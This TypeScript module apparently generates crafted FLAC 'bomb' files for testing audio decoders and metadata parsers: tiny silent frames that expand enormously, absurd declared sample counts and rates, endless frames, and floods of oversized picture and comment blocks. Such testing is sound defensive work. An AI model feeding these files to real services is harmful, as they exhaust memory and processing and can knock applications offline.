import { type Bomb, bytesOf, FULL_SIZE, noise, repeated, u32be } from "./bomb.ts";

const BLOCK_SIZE = 65_535;

interface FlacShape {
  channels: number;
  bytesPerSample: 1 | 2;
  sampleRate?: number;
  totalSamples?: number;
}

/** FLAC files that expand to thousands of times their size: a frame of silence has about 14 bytes. */
export function flacBombs(): Bomb[] {
  const stereo: FlacShape = { channels: 2, bytesPerSample: 1 };
  const eight: FlacShape = { channels: 8, bytesPerSample: 2 };
  return [
    { name: "expands-in-253-kb.flac", bytes: () => flacFile(stereo, frames(stereo, 253 * 1024)) },
    { name: "expands-in-52-kb-of-8-channels.flac", bytes: () => flacFile(eight, frames(eight, 52 * 1024)) },
    { name: "expands-in-10-mb.flac", bytes: () => flacFile(eight, frames(eight)) },
    {
      name: "one-second-at-655-khz.flac",
      bytes: () => flacFile({ ...eight, sampleRate: 655_350 }, frames(eight, 20_000)),
    },
    {
      name: "declares-68-billion-samples.flac",
      bytes: () => flacFile({ ...stereo, totalSamples: 2 ** 36 - 1 }, frames(stereo, 4096)),
    },
    {
      name: "a-frame-that-never-ends.flac",
      bytes: () => flacFile(stereo, bytesOf(frame(stereo), noise(FULL_SIZE))),
    },
    {
      name: "pictures-of-16-mb-declared.flac",
      bytes: () => manyBlocks(block(6, repeated(Uint8Array.of(0xff, 0xd8), 2000), 0xffffff)),
    },
    { name: "hundred-thousand-pictures.flac", bytes: () => manyBlocks(block(6, picture(60))) },
    { name: "a-million-comments.flac", bytes: () => commentFile(repeated(comment("a=b"))) },
    { name: "pictures-in-comments.flac", bytes: () => commentFile(repeated(comment(pictureComment()))) },
  ];
}

function flacFile(shape: FlacShape, audio: Uint8Array): Buffer {
  return bytesOf("fLaC", block(0x80, streamInfo(shape)), audio);
}

function frames(shape: FlacShape, length = FULL_SIZE): Buffer {
  return repeated(frame(shape), length);
}

/** Writes a frame in which every channel has one value (RFC 9639, section 9). */
export function frame({ channels, bytesPerSample }: FlacShape): Buffer {
  const sampleSizeCode = bytesPerSample === 1 ? 1 : 4;
  const header = [
    0xff,
    0xf8,
    0x79,
    ((channels - 1) << 4) | (sampleSizeCode << 1),
    0,
    (BLOCK_SIZE - 1) >> 8,
    (BLOCK_SIZE - 1) & 255,
  ];
  const subframe = bytesPerSample === 1 ? [0, 64] : [0, 64, 0];
  const body = [...header, crc8(header), ...Array.from({ length: channels }, () => subframe).flat()];
  const check = crc16(body);
  return bytesOf(body, [check >> 8, check & 255]);
}

export function streamInfo({
  channels,
  bytesPerSample,
  sampleRate = 44_100,
  totalSamples = 0,
}: FlacShape): Buffer {
  const info = Buffer.alloc(34);
  info.writeUInt16BE(BLOCK_SIZE, 0);
  info.writeUInt16BE(BLOCK_SIZE, 2);
  const bits = bytesPerSample * 8 - 1;
  const facts = (BigInt(sampleRate) << 44n) | (BigInt(channels - 1) << 41n) | (BigInt(bits) << 36n);
  info.writeBigUInt64BE(facts | BigInt(totalSamples), 10);
  return info;
}

export function block(kind: number, content: Uint8Array, declaredBytes = content.length): Buffer {
  return bytesOf([kind, declaredBytes >> 16, (declaredBytes >> 8) & 255, declaredBytes & 255], content);
}

function manyBlocks(metadata: Buffer): Buffer {
  const shape: FlacShape = { channels: 2, bytesPerSample: 1 };
  return bytesOf(
    "fLaC",
    block(0, streamInfo(shape)),
    repeated(metadata),
    block(0x81, Buffer.alloc(0)),
    frame(shape),
  );
}

function picture(size: number): Buffer {
  return bytesOf(
    u32be(3),
    u32be(9),
    "image/png",
    u32be(0),
    Buffer.alloc(16),
    u32be(size),
    Buffer.alloc(size),
  );
}

export function comment(text: string): Buffer {
  return bytesOf([text.length & 255, text.length >> 8, 0, 0], text);
}

function pictureComment(): string {
  return `METADATA_BLOCK_PICTURE=${picture(2000).toString("base64")}`;
}

/** Maximum size of the comments in one block, 16 MiB. */
function commentFile(comments: Buffer): Buffer {
  const shape: FlacShape = { channels: 2, bytesPerSample: 1 };
  const content = bytesOf([0, 0, 0, 0], [0xff, 0xff, 0x0f, 0], comments);
  return bytesOf("fLaC", block(0, streamInfo(shape)), block(0x84, content), frame(shape));
}

function crc8(bytes: readonly number[]): number {
  let crc = 0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 0x80 ? ((crc << 1) ^ 7) & 255 : (crc << 1) & 255;
  }
  return crc;
}

function crc16(bytes: readonly number[]): number {
  let crc = 0;
  for (const byte of bytes) {
    crc ^= byte << 8;
    for (let bit = 0; bit < 8; bit++)
      crc = crc & 0x8000 ? ((crc << 1) ^ 0x8005) & 0xffff : (crc << 1) & 0xffff;
  }
  return crc;
}
